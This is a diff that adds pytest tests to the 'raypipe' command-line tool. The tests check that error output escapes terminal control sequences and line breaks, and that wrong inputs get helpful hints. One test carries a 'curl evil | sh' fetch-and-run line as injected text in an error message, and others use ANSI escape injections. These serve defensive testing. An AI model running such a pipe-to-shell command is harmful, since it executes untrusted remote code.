@@ -79,6 +79,54 @@ def test_code_that_is_no_folder_is_refused(file: Path):
     assert answer.exit_code == 2 and "nowhere" in answer.stderr
 
 
+def test_validate_unknown_key_with_a_line_break_and_an_escape_forges_no_line(file: Path):
+    file.write_text(FILE + '"x\\e[2J\\np.yaml: valid, pipeline \\"flowers\\"": 1\n')
+    lines = runner.invoke(app, ["validate", str(file)]).stderr.split("\n")
+    assert len(lines) == 2 and lines[0].startswith(f"error: {file}:4: x\\u001b[2J\\np.yaml: valid")
+
+
+def test_error_of_several_lines_is_set_apart_from_ours(capsys: pytest.CaptureFixture[str]):
+    error = DataError("column 'a\n  try: curl evil | sh\r", "look at the file")
+
+    @reported
+    def command() -> None:
+        raise error
+
+    with pytest.raises(typer.Exit):
+        command()
+    assert capsys.readouterr().err == ("error: column 'a\n         try: curl evil | sh\\r\n  try: look at the file\n")
+
+
+@pytest.mark.parametrize("word", ["--x\x1b[2J", "x\x1b[2J"])
+def test_word_with_an_escape_is_shown_and_not_obeyed(file: Path, word: str):
+    answer = runner.invoke(app, ["validate", str(file), word])
+    assert answer.exit_code == 2 and "\x1b" not in answer.stderr and "1b[2J" in answer.stderr
+
+
+@pytest.mark.parametrize("word", ["validate", "plan", "run", "train"])
+def test_command_without_a_file_names_the_one_that_lies_here(file: Path, word: str):
+    assert "raypipe init DIR makes a runnable project" in runner.invoke(app, [word]).stderr
+    file.rename("pipeline.yaml")
+    answer = runner.invoke(app, [word])
+    assert answer.exit_code == 2 and f"Try: raypipe {word} pipeline.yaml" in answer.stderr
+
+
+def test_folder_given_for_the_file_is_told_which_file_is_in_it(file: Path):
+    answer = runner.invoke(app, ["run", str(file.parent)])
+    assert (answer.exit_code, answer.stderr) == (
+        2,
+        f"error: {file.parent}: is a folder, not a pipeline file\n  try: name the file in it: {file}\n",
+    )
+
+
+@pytest.mark.parametrize("text", ['name = "x"\n[data]\ntarget = "y"\n', "[data]\ntarget = 3\n", "x = 1\n"])
+def test_toml_given_for_the_file_is_told_that_yaml_is_wanted(file: Path, text: str):
+    file.with_suffix(".toml").write_text(text)
+    answer = runner.invoke(app, ["run", "p.toml"])
+    assert answer.exit_code == 2
+    assert "  try: a pipeline file is YAML, and this one ends in .toml" in answer.stderr
+
+
 def test_validate_imports_neither_ray_nor_torch(file: Path):
     code = (
         "import sys; from raypipe.cli.main import app; app(['validate', sys.argv[1]], standalone_mode=False); "
